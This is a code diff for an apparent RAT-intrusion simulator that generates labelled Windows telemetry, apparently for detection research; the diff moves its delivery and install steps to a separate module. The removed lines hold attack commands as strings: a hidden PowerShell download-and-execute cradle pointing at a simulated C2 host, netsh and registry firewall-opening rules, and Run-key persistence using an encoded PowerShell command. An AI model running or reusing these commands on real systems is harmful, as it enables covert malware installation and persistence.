@@ -16,13 +16,13 @@ from collections.abc import Iterator
 from dataclasses import dataclass
 
 from rathunt.simulate.host import Host, Process
+from rathunt.simulate.install import RUN_KEY, WOW64, delivery, first_run, install
 from rathunt.simulate.labels import Label
 from rathunt.simulate.lateral import lateral_movement, naive_extras, usb_spread
 from rathunt.simulate.schedule import MINUTE, SECOND, Session, user_profile
 from rathunt.simulate.shapes import (
     SimEvent,
     dns_query,
-    file_create,
     network_connect,
     process_create,
     registry_event,
@@ -33,12 +33,6 @@ from rathunt.simulate.steps import DISCOVERY_COMMANDS, STEPS
 from rathunt.simulate.variants import Implant
 
 Episode = list[SimEvent]
-RUN_KEY = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
-FIREWALL_RULES = (
-    "HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy"
-    "\\FirewallRules"
-)
-WOW64 = "C:\\Windows\\SysWOW64"
 
 
 @dataclass(slots=True)
@@ -88,11 +82,11 @@ class Intrusion:
             30 * MINUTE + self.rng.randrange(60 * MINUTE), (first.end - first.start) // 4
         )
         uninstall_at = self._uninstall_time(sessions)
-        t, dropper, episode = self.delivery(t, first)
+        t, dropper, episode = delivery(self, t, first)
         yield episode
-        t, episode = self.first_run(t, dropper)
+        t, episode = first_run(self, t, dropper)
         yield episode
-        t, episode = self.install(t)
+        t, episode = install(self, t)
         yield episode
         for index, session in enumerate(s for s in sessions if s.end > t):
             if index > 0 or session is not first:
@@ -120,163 +114,7 @@ class Intrusion:
         }[self.implant.install_dir]
         return f"{folder}\\{self.implant.exe}"
 
-    # -- delivery and install --------------------------------------------------------------
-
-    def delivery(self, t: int, session: Session) -> tuple[int, Process, Episode]:
-        """The chain that puts the payload on disk and starts it."""
-        host, profile = self.host, user_profile(self.host)
-        events: Episode = []
-        if self.implant.delivery == "explorer":
-            browser = host.process(
-                t - 5 * MINUTE,
-                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
-                '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
-                session.explorer,
-            )
-            drop = f"{profile}\\Downloads\\{self.implant.exe}"
-            events += file_create(host, t, browser, drop, self.label("user-download"))
-            dropper = host.process(
-                t + 20 * SECOND,
-                drop,
-                f'"{drop}" ',
-                session.explorer,
-                current_directory=f"{profile}\\Downloads\\",
-                content=self.rg,
-            )
-            events += process_create(
-                host, dropper_t := t + 20 * SECOND, dropper, self.label("first-run")
-            )
-            return dropper_t, dropper, events
-        name = self.rng.choice(["Invoice_2291", "Scan_0193", "Payment_Advice", "Order-55817"])
-        drop = f"{profile}\\AppData\\Local\\Temp\\{name.lower()}.exe"
-        if self.implant.delivery == "office":
-            doc = f"{profile}\\Downloads\\{name}.doc"
-            parent = host.process(
-                t,
-                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
-                f'"C:\\Program Files\\Microsoft Office\\root\\'
-                f'Office16\\WINWORD.EXE" /n "{doc}" /o ""',
-                session.explorer,
-                current_directory=f"{profile}\\Downloads\\",
-            )
-            step = "office-macro"
-        else:
-            script = f"{profile}\\Downloads\\{name}.vbs"
-            parent = host.process(
-                t,
-                "C:\\Windows\\System32\\wscript.exe",
-                f'"C:\\Windows\\System32\\WScript.exe" "{script}" ',
-                session.explorer,
-                current_directory=f"{profile}\\Downloads\\",
-            )
-            step = "script-host"
-        events += process_create(host, t, parent, self.label(step))
-        url = f"http://{self.rng.choice(['cdn-docs', 'files', 'update'])}.{self.implant.c2_host}"
-        command = (
-            'powershell.exe -NoProfile -WindowStyle Hidden -Command "$d=[Convert]::'
-            f"FromBase64String((New-Object Net.WebClient).DownloadString('{url}/{name}.txt'));"
-            f"[IO.File]::WriteAllBytes('{drop}',$d);Start-Process '{drop}'\""
-        )
-        ps_t = t + 4 * SECOND + self.rng.randrange(3 * SECOND)
-        loader = host.process(
-            ps_t, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", command, parent
-        )
-        events += process_create(host, ps_t, loader, self.label(step, "T1059.001"))
-        fetch = self.label("loader-download")
-        events += dns_query(
-            host, ps_t + 900_000, loader, url.split("/")[2], [self.implant.c2_ip], fetch
-        )
-        events += network_connect(
-            host, ps_t + 960_000, loader, self.implant.c2_ip, 80, self._port(), label=fetch
-        )
-        events += file_create(host, ps_t + 2 * SECOND, loader, drop, fetch)
-        run_t = ps_t + 2 * SECOND + 300_000
-        dropper = host.process(run_t, drop, f'"{drop}" ', loader, content=self.rg)
-        events += process_create(host, run_t, dropper, self.label("first-run"))
-        return run_t, dropper, events
-
-    def first_run(self, t: int, dropper: Process) -> tuple[int, Episode]:
-        """Sleep 1 s, copy to %DR%\\EXE, start the copy; the dropper then exits."""
-        copy_t = t + SECOND + self.rng.randrange(200_000)
-        events = file_create(self.host, copy_t, dropper, self.path, self.label("self-copy"))
-        start_t = copy_t + 150_000
-        self.rat = self.host.process(
-            start_t,
-            self.path,
-            f'"{self.path}" ',
-            dropper,
-            current_directory=dropper.current_directory,
-            content=self.rg,
-        )
-        events += process_create(self.host, start_t, self.rat, self.label("install-run"))
-        return start_t, events
-
-    def install(self, t: int) -> tuple[int, Episode]:
-        """`INS()` from the installed copy: zone check, netsh, FirewallRules, Run, Startup."""
-        host, rat = self.host, self._rat()
-        t += SECOND + self.rng.randrange(300_000)
-        events = registry_event(
-            host,
-            t,
-            rat,
-            "SetValue",
-            user_reg(rat.logon, "Environment\\SEE_MASK_NOZONECHECKS"),
-            "1",
-            self.label("zone-check"),
-        )
-        t += 200_000
-        name = self.path.rsplit("\\", 1)[1]
-        netsh = host.process(
-            t,
-            f"{WOW64}\\netsh.exe",
-            f'netsh firewall add allowedprogram "{self.path}" "{name}" ENABLE',
-            rat,
-        )
-        events += process_create(host, t, netsh, self.label("netsh-allow"))
-        mpssvc = self._service_host("mpssvc", "-k LocalServiceNoNetworkFirewall -p")
-        for offset, protocol in ((600_000, 6), (612_000, 17)):
-            guid = self._guid()
-            value = (
-                f"v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol={protocol}|Profile=Public|"
-                f"App={self.path}|Name={name}|"
-            )
-            events += registry_event(
-                host,
-                t + offset,
-                mpssvc,
-                "SetValue",
-                f"{FIREWALL_RULES}\\{{{guid}}}",
-                value,
-                self.label("firewall-rule"),
-            )
-        t += 5 * SECOND + self.rng.randrange(SECOND)
-        if self.implant.run_key:
-            events += self._run_keys(t, rat)
-        if self.implant.startup_copy:
-            t += 300_000
-            events += file_create(host, t, rat, self._startup_path(), self.label("startup-copy"))
-        return t, events
-
-    def _run_keys(self, t: int, rat: Process) -> Episode:
-        if self.implant.run_style == "powershell":
-            script = f"Start-Process '{self.path}' -ArgumentList '..'"
-            encoded = base64.b64encode(script.encode("utf-16-le")).decode()
-            data = f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}"
-            label = self.label("run-key-powershell")
-        else:
-            data = f'"{self.path}" ..'
-            label = self.label("run-key")
-        events = registry_event(
-            self.host, t, rat, "SetValue", user_reg(rat.logon, f"{RUN_KEY}\\{self.rg}"), data, label
-        )
-        if rat.logon.elevated:
-            target = (
-                f"HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run\\{self.rg}"
-            )
-            events += registry_event(self.host, t + 3000, rat, "SetValue", target, data, label)
-        return events
-
-    def _startup_path(self) -> str:
+    def startup_path(self) -> str:
         return (
             f"{user_profile(self.host)}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\"
             f"Programs\\Startup\\{self.rg}.exe"
@@ -323,8 +161,8 @@ class Intrusion:
         if self.implant.startup_copy:
             copy = host.process(
                 t + 2 * SECOND,
-                self._startup_path(),
-                f'"{self._startup_path()}" ',
+                self.startup_path(),
+                f'"{self.startup_path()}" ',
                 session.explorer,
                 content=self.rg,
             )
